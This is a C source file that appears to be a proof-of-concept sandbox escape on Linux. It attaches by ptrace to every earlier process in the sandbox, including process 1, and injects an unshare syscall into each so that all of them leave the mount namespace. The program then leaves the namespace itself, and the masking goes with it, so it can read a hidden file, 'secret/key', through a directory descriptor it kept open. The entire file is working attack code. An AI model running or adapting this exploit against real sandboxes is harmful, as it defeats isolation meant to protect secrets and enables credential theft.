/* The kernel destroys a mount namespace without processes, and its masks with it. The attack holds the project open,
* makes process 1 of the sandbox leave the mount namespace by ptrace, which it may because both belong to one user,
* leaves the namespace itself, and reads the masked file through the descriptor. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <unistd.h>

/* Makes a stopped process execute one system call. */
static long inject(pid_t pid, long number, long argument)
{
    struct user_regs_struct before, now;
    if (ptrace(PTRACE_GETREGS, pid, 0, &before))
        return -errno;
    now = before;
    now.rip -= 2; /* it waits in a system call: the instruction is just behind */
    now.rax = number;
    now.orig_rax = -1;
    now.rdi = argument;
    if (ptrace(PTRACE_SETREGS, pid, 0, &now) || ptrace(PTRACE_SINGLESTEP, pid, 0, 0) || waitpid(pid, 0, __WALL) < 0)
        return -errno;
    ptrace(PTRACE_GETREGS, pid, 0, &now);
    ptrace(PTRACE_SETREGS, pid, 0, &before);
    return now.rax;
}

static int look(int project, const char *path)
{
    char text[256];
    int file = openat(project, path, O_RDONLY);
    long length = file < 0 ? -1 : read(file, text, sizeof text - 1);
    if (file >= 0)
        close(file);
    if (length <= 0)
        return 0;
    text[length] = 0;
    printf("read %s\n", text);
    return 1;
}

/* The argument is the number of attempts to read, 10 ms apart. */
int main(int argc, char **argv)
{
    const long away = CLONE_NEWUSER | CLONE_NEWNS;
    if (argc != 2)
        return 2;
    int project = open(".", O_RDONLY | O_DIRECTORY);
    /* All earlier processes of the namespace must leave: process 1 and the parents of this one. */
    for (pid_t pid = 1; pid < getpid(); pid++) {
        if (ptrace(PTRACE_ATTACH, pid, 0, 0)) {
            printf("attach %d %d\n", pid, errno);
            continue;
        }
        waitpid(pid, 0, __WALL);
        printf("unshare in %d %ld\n", pid, inject(pid, SYS_unshare, away));
        /* unshare has also moved the root and working directory of the process to the new namespace. */
        ptrace(PTRACE_DETACH, pid, 0, 0);
    }
    printf("unshare %d\n", unshare(away) ? errno : 0);
    for (int i = 0; i < atoi(argv[1]) && !look(project, "secret/key"); i++)
        usleep(10000);
    puts("done");
    return 0;
}
